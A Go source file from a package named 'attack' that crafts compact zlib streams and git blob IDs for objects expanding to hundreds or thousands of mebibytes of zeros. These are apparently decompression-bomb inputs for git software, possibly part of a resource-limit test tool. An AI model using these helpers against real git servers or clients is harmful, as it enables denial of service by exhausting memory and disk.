package attack

import (
	"bytes"
	"compress/flate"
	"crypto/sha1" //nolint:gosec // git's object ids
	"encoding"
	"encoding/binary"
	"encoding/hex"
	"fmt"
)

const mib = 1 << 20

// zeros is an open zlib stream of n mebibytes of zeros.
func zeros(n int) ([]byte, error) { return zerosAfter("", n) }

// zerosAfter is an open zlib stream of a beginning and n mebibytes of zeros. After the first ones the window is full of
// zeros, so all others deflate to the same bytes: they are written without being deflated.
func zerosAfter(begin string, n int) ([]byte, error) {
	var out bytes.Buffer
	out.Write([]byte{0x78, 0x9c})
	w, err := flate.NewWriter(&out, flate.BestCompression)
	if err != nil {
		return nil, err
	}
	if _, err := w.Write([]byte(begin)); err != nil {
		return nil, err
	}
	block := make([]byte, mib)
	at := 0
	for range min(n, 3) {
		at = out.Len()
		if _, err := w.Write(block); err != nil {
			return nil, err
		}
		if err := w.Flush(); err != nil { // ends at a whole byte
			return nil, err
		}
	}
	same := bytes.Clone(out.Bytes()[at:])
	for range n - 3 {
		out.Write(same)
	}
	return out.Bytes(), nil
}

// closed ends a stream of n mebibytes of zeros with a short tail.
func closed(stream []byte, n int, tail string) []byte {
	out := append(bytes.Clone(stream), 1) // the last block, stored
	out = binary.LittleEndian.AppendUint16(out, uint16(len(tail)))
	out = binary.LittleEndian.AppendUint16(out, ^uint16(len(tail)))
	out = append(out, tail...)
	return binary.BigEndian.AppendUint32(out, adlerOf(n, tail))
}

// adlerOf is the checksum of n mebibytes of zeros and a tail: zeros leave its first half alone, and so move the second
// by as much each time.
func adlerOf(n int, tail string) uint32 {
	const prime = 65521
	a, b := uint64(1), uint64(n)*mib%prime
	for _, c := range []byte(tail) {
		a = (a + uint64(c)) % prime
		b = (b + a) % prime
	}
	return uint32(b<<16 | a)
}

// zeroBlob is the id of a blob of n mebibytes of zeros. The large ones stand here, since computing them takes longer than
// reading what is built of them; the one who fetches them computes them again.
func zeroBlob(n int) string {
	switch n {
	case 256:
		return "89b65bcc7a1f3f68f45654de865cab3c4b649b71"
	case 2048:
		return "77e9132b46cb9535f286f18974872f40049d1a89"
	}
	return objectID("blob", make([]byte, n*mib))
}

// tailedBlobs are the ids of blobs of n mebibytes of zeros and a tail each; all tails have the same length.
func tailedBlobs(n int, tails []string) ([]string, error) {
	h := sha1.New() //nolint:gosec // git's object ids
	fmt.Fprintf(h, "blob %d\x00", n*mib+len(tails[0]))
	block := make([]byte, mib)
	for range n {
		h.Write(block)
	}
	common, err := h.(encoding.BinaryMarshaler).MarshalBinary() //nolint:forcetypeassert // as its documentation says
	if err != nil {
		return nil, err
	}
	var out []string
	for _, tail := range tails {
		if err := h.(encoding.BinaryUnmarshaler).UnmarshalBinary(common); err != nil { //nolint:forcetypeassert // the same
			return nil, err
		}
		h.Write([]byte(tail))
		out = append(out, hex.EncodeToString(h.Sum(nil)))
	}
	return out, nil
}
